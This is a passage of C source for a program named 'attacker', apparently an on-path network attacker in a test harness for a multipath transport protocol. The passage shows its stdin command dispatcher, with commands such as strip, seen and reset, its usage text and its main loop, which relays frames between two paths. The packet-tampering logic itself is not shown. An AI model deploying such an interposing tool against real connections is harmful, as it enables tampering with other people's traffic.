	{ "strip", cmd_strip },	  { "seen", cmd_seen },
	{ "reset", cmd_reset },
};

/* "reply N NAME=VALUE..." with the N of its first word, so that none is mistaken */
static void run_command(char *line)
{
	char *number = strsep(&line, " "), *name = strsep(&line, " "), *word;
	size_t i;

	nr_args = 0;
	while ((word = strsep(&line, " ")) && nr_args < MAX_ARGS)
		args[nr_args++] = word;
	for (i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		if (!name || strcmp(name, commands[i].name))
			continue;
		printf("begin %s\nreply %s", number, number);
		if (!commands[i].run())
			printf(" error=no-such-connection");
		hold_joins = false;
		held.port = 0;
		printf(" end\n");
		return;
	}
	printf("reply %s error=no-such-command end\n", number);
}

/* False at the end of stdin */
static bool read_commands(void)
{
	static char buf[4096];
	static size_t len;
	char *end;
	ssize_t got;

	got = read(STDIN_FILENO, buf + len, sizeof(buf) - len);
	if (got <= 0)
		return false;
	len += (size_t)got;
	while ((end = memchr(buf, '\n', len))) {
		*end = 0;
		run_command(buf);
		len -= (size_t)(end + 1 - buf);
		memmove(buf, end + 1, len);
	}
	return len < sizeof(buf);
}

static int usage(void)
{
	fprintf(stderr,
		"Usage: attacker [--patience MS] [--own ADDR]... "
		"CLIENT1 SERVER1 CLIENT2 SERVER2\n"
		"The interfaces towards the hosts, of path 1 and of path 2.\n"
		"Commands come on stdin, see run_command().\n");
	return 2;
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "own", required_argument, NULL, 'o' },
		{ "patience", required_argument, NULL, 'p' },
		{ 0 },
	};
	struct frame frame;
	struct pollfd in = { .fd = STDIN_FILENO, .events = POLLIN };
	int opt, i;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (opt == 'o' && nr_own < MAX_OWN)
			own[nr_own++] = inet_addr(optarg);
		else if (opt == 'p')
			patience_ms = atoll(optarg);
		else
			return usage();
	}
	if (argc - optind != NR_PATHS * NR_SIDES)
		return usage();
	for (i = 0; i < NR_PATHS * NR_SIDES; i++)
		if (!open_link(&links[i / NR_SIDES][i % NR_SIDES],
			       argv[optind + i]))
			return 1;
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		/* What is for the attacker's addresses outside of an attack is dropped */
		pump(INT64_MIN / 2, true, &frame);
		if (poll(&in, 1, 0) == 1 && !read_commands())
			return 0;
	}
}
